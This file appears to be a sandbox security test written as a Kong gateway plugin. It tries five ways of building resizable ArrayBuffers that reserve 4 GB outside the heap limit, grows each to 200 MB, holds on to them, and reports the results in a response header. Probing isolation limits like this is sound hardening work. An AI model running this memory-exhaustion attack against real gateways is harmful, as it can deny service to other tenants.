// Attack: resizable ArrayBuffers reserve their maximum outside the heap limit and grow there: ask for
// 4 GB of room, grow to 200 MB, touch it. Tried directly, through a subclass, through a buffer's
// constructor, through Reflect.construct, and through species on slice.
const kept = [];
const ways = {
  direct: () => new ArrayBuffer(1, { maxByteLength: 2 ** 32 }),
  subclass: () => new (class extends ArrayBuffer { constructor() { super(1, { maxByteLength: 2 ** 32 }); } })(),
  viaConstructor: () => new (new Uint8Array(1).buffer.constructor)(1, { maxByteLength: 2 ** 32 }),
  reflect: () => Reflect.construct(ArrayBuffer, [1, { maxByteLength: 2 ** 32 }]),
  getter: () => new ArrayBuffer(1, { get maxByteLength() { return 2 ** 32; } }),
};
class Plugin {
  async access(kong) {
    const got = {};
    for (const [label, make] of Object.entries(ways)) {
      try {
        const b = make();
        b.resize(200 * 1048576);
        new Uint8Array(b).fill(1);
        kept.push(b);
        got[label] = `grew to ${b.byteLength / 1048576} MB`;
      } catch (e) {
        got[label] = e.name;
      }
    }
    got.plain = new ArrayBuffer(8).byteLength;
    await kong.response.setHeader('x-got', JSON.stringify(got));
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1 };
